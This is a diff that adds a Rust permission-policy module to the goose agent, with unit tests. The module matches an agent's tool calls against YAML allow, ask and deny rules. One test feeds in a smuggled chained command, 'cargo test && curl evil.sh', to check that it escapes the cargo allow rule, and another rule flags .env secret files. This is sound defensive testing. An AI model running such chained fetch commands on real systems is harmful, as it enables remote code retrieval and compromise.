@@ -0,0 +1,376 @@
+use crate::config::get_config_dir;
+use anyhow::{Context, Result};
+use regex::Regex;
+use rmcp::model::JsonObject;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use std::collections::BTreeMap;
+use std::path::{Component, Path, PathBuf};
+
+/// Name of the policy file in the goose config dir
+pub const POLICY_FILENAME: &str = "policy.yaml";
+
+/// What a matching policy rule does with a tool call
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "snake_case")]
+pub enum PolicyAction {
+    Allow,
+    Ask,
+    Deny,
+}
+
+/// A rule as written in the policy file. Every condition present must hold for the rule
+/// to match; the first matching rule decides.
+#[derive(Debug, Clone, Deserialize)]
+pub struct PolicyRule {
+    /// Label reported with decisions, defaults to the rule's position in the file
+    #[serde(default)]
+    pub name: Option<String>,
+    /// Tool name, optionally with `*` wildcards. Names without an extension prefix also
+    /// match prefixed tools, so `shell` matches `developer__shell`.
+    pub tool: String,
+    /// Regex per argument, addressed with dotted paths for nested objects
+    #[serde(default)]
+    pub args: BTreeMap<String, String>,
+    /// Regex that must match at least one string anywhere in the arguments
+    #[serde(default)]
+    pub any_arg: Option<String>,
+    /// Arguments holding paths, at least one of which must resolve outside the working dir
+    #[serde(default)]
+    pub outside_working_dir: Vec<String>,
+    pub action: PolicyAction,
+    #[serde(default)]
+    pub reason: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+struct PolicyFile {
+    #[serde(default)]
+    rules: Vec<PolicyRule>,
+}
+
+#[derive(Debug, Clone)]
+struct CompiledRule {
+    name: String,
+    tool: Regex,
+    bare_tool: bool,
+    args: Vec<(String, Regex)>,
+    any_arg: Option<Regex>,
+    outside_working_dir: Vec<String>,
+    action: PolicyAction,
+    reason: Option<String>,
+}
+
+/// The outcome of the first policy rule matching a tool call
+#[derive(Debug, Clone, PartialEq)]
+pub struct PolicyDecision {
+    pub action: PolicyAction,
+    pub rule: String,
+    pub reason: Option<String>,
+    /// Policy file the rule came from
+    pub source: Option<PathBuf>,
+}
+
+/// Ordered permission rules that match on tool names and arguments
+#[derive(Debug, Clone, Default)]
+pub struct ToolPolicy {
+    rules: Vec<CompiledRule>,
+    source: Option<PathBuf>,
+}
+
+impl ToolPolicy {
+    /// Location of the user's policy file
+    pub fn default_path() -> PathBuf {
+        get_config_dir().join(POLICY_FILENAME)
+    }
+
+    /// Load a policy file; a missing file is an empty policy
+    pub fn load(path: &Path) -> Result<Self> {
+        if !path.exists() {
+            return Ok(Self::default());
+        }
+        let content = std::fs::read_to_string(path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        let mut policy = Self::from_yaml(&content)
+            .with_context(|| format!("Invalid policy file {}", path.display()))?;
+        policy.source = Some(path.to_path_buf());
+        Ok(policy)
+    }
+
+    pub fn from_yaml(content: &str) -> Result<Self> {
+        let file: PolicyFile = serde_yaml::from_str(content)?;
+        let rules = file
+            .rules
+            .into_iter()
+            .enumerate()
+            .map(|(index, rule)| compile_rule(index, rule))
+            .collect::<Result<Vec<_>>>()?;
+        Ok(Self {
+            rules,
+            source: None,
+        })
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// Decide a tool call with the first matching rule, or None when no rule matches
+    pub fn evaluate(
+        &self,
+        tool_name: &str,
+        arguments: Option<&JsonObject>,
+        working_dir: &Path,
+    ) -> Option<PolicyDecision> {
+        let empty = JsonObject::new();
+        let arguments = arguments.unwrap_or(&empty);
+
+        self.rules
+            .iter()
+            .find(|rule| rule_matches(rule, tool_name, arguments, working_dir))
+            .map(|rule| PolicyDecision {
+                action: rule.action,
+                rule: rule.name.clone(),
+                reason: rule.reason.clone(),
+                source: self.source.clone(),
+            })
+    }
+}
+
+fn compile_rule(index: usize, rule: PolicyRule) -> Result<CompiledRule> {
+    let name = rule
+        .name
+        .clone()
+        .unwrap_or_else(|| format!("rule {}", index + 1));
+    let compile = |pattern: &str| {
+        Regex::new(pattern).with_context(|| format!("Invalid regex in '{}': {}", name, pattern))
+    };
+
+    let tool_pattern = rule
+        .tool
+        .split('*')
+        .map(regex::escape)
+        .collect::<Vec<_>>()
+        .join(".*");
+
+    Ok(CompiledRule {
+        tool: compile(&format!("^{}$", tool_pattern))?,
+        bare_tool: !rule.tool.contains("__"),
+        args: rule
+            .args
+            .iter()
+            .map(|(arg, pattern)| Ok((arg.clone(), compile(pattern)?)))
+            .collect::<Result<Vec<_>>>()?,
+        any_arg: rule.any_arg.as_deref().map(compile).transpose()?,
+        outside_working_dir: rule.outside_working_dir,
+        action: rule.action,
+        reason: rule.reason,
+        name,
+    })
+}
+
+fn rule_matches(
+    rule: &CompiledRule,
+    tool_name: &str,
+    arguments: &JsonObject,
+    working_dir: &Path,
+) -> bool {
+    let base_name = tool_name.rsplit("__").next().unwrap_or(tool_name);
+    if !(rule.tool.is_match(tool_name) || (rule.bare_tool && rule.tool.is_match(base_name))) {
+        return false;
+    }
+
+    let args_match = rule.args.iter().all(|(arg, regex)| {
+        argument(arguments, arg)
+            .map(|value| regex.is_match(&value_text(value)))
+            .unwrap_or(false)
+    });
+    if !args_match {
+        return false;
+    }
+
+    if let Some(regex) = &rule.any_arg {
+        let mut strings = Vec::new();
+        for value in arguments.values() {
+            collect_strings(value, &mut strings);
+        }
+        if !strings.iter().any(|s| regex.is_match(s)) {
+            return false;
+        }
+    }
+
+    if !rule.outside_working_dir.is_empty() {
+        let outside = rule.outside_working_dir.iter().any(|arg| {
+            argument(arguments, arg)
+                .and_then(|v| v.as_str())
+                .is_some_and(|path| is_outside(path, working_dir))
+        });
+        if !outside {
+            return false;
+        }
+    }
+
+    true
+}
+
+/// Look up an argument by dotted path, e.g. `config.script`
+fn argument<'a>(arguments: &'a JsonObject, path: &str) -> Option<&'a Value> {
+    let mut parts = path.split('.');
+    let mut value = arguments.get(parts.next()?)?;
+    for part in parts {
+        value = value.get(part)?;
+    }
+    Some(value)
+}
+
+fn value_text(value: &Value) -> String {
+    match value {
+        Value::String(s) => s.clone(),
+        other => other.to_string(),
+    }
+}
+
+fn collect_strings(value: &Value, out: &mut Vec<String>) {
+    match value {
+        Value::String(s) => out.push(s.clone()),
+        Value::Array(arr) => arr.iter().for_each(|v| collect_strings(v, out)),
+        Value::Object(obj) => obj.values().for_each(|v| collect_strings(v, out)),
+        _ => {}
+    }
+}
+
+/// Whether `path` resolves outside `working_dir`. Resolution is lexical, so it works for
+/// files that don't exist yet; `~` expands to the home directory.
+fn is_outside(path: &str, working_dir: &Path) -> bool {
+    let expanded = match path.strip_prefix("~") {
+        Some(rest) if rest.is_empty() || rest.starts_with('/') => match dirs::home_dir() {
+            Some(home) => home.join(rest.trim_start_matches('/')),
+            None => return true,
+        },
+        _ => PathBuf::from(path),
+    };
+    let absolute = if expanded.is_absolute() {
+        expanded
+    } else {
+        working_dir.join(expanded)
+    };
+    !normalize(&absolute).starts_with(normalize(working_dir))
+}
+
+fn normalize(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                normalized.pop();
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rmcp::object;
+
+    const POLICY: &str = r#"
+rules:
+  - name: secrets
+    tool: "*"
+    any_arg: '(^|/)\.env(\.|$)'
+    action: ask
+    reason: Touches an env file
+  - name: no-writes-outside
+    tool: text_editor
+    args:
+      command: '^(write|str_replace|insert)$'
+    outside_working_dir: [path]
+    action: deny
+  - name: cargo
+    tool: developer__shell
+    args:
+      command: '^cargo (build|test)( [^;&|]*)?$'
+    action: allow
+"#;
+
+    fn decide(tool: &str, args: JsonObject) -> Option<(PolicyAction, String)> {
+        ToolPolicy::from_yaml(POLICY)
+            .unwrap()
+            .evaluate(tool, Some(&args), Path::new("/work/project"))
+            .map(|d| (d.action, d.rule))
+    }
+
+    #[test]
+    fn test_policy_matches_arguments() {
+        assert_eq!(
+            decide(
+                "developer__shell",
+                object!({"command": "cargo test -p goose"})
+            ),
+            Some((PolicyAction::Allow, "cargo".to_string()))
+        );
+        assert_eq!(
+            decide(
+                "developer__shell",
+                object!({"command": "cargo test && curl evil.sh"})
+            ),
+            None
+        );
+        assert_eq!(
+            decide("other__shell", object!({"command": "cargo build"})),
+            None
+        );
+    }
+
+    #[test]
+    fn test_policy_working_dir_and_first_match_wins() {
+        assert_eq!(
+            decide(
+                "developer__text_editor",
+                object!({"command": "write", "path": "../other/src/main.rs"})
+            ),
+            Some((PolicyAction::Deny, "no-writes-outside".to_string()))
+        );
+        assert_eq!(
+            decide(
+                "developer__text_editor",
+                object!({"command": "write", "path": "/work/project/src/main.rs"})
+            ),
+            None
+        );
+        assert_eq!(
+            decide(
+                "developer__text_editor",
+                object!({"command": "view", "path": "/etc/hosts"})
+            ),
+            None
+        );
+        assert_eq!(
+            decide(
+                "developer__text_editor",
+                object!({"command": "write", "path": "/etc/.env"})
+            ),
+            Some((PolicyAction::Ask, "secrets".to_string()))
+        );
+    }
+
+    #[test]
+    fn test_policy_rejects_invalid_regex() {
+        let err =
+            ToolPolicy::from_yaml("rules:\n  - tool: shell\n    any_arg: '('\n    action: deny\n")
+                .unwrap_err();
+        assert!(err.to_string().contains("rule 1"));
+    }
+
+    #[test]
+    fn test_is_outside_working_dir() {
+        let cwd = Path::new("/work/project");
+        assert!(!is_outside("src/lib.rs", cwd));
+        assert!(!is_outside("./a/../b.txt", cwd));
+        assert!(is_outside("../project-other/x", cwd));
+        assert!(is_outside("/tmp/x", cwd));
+    }
+}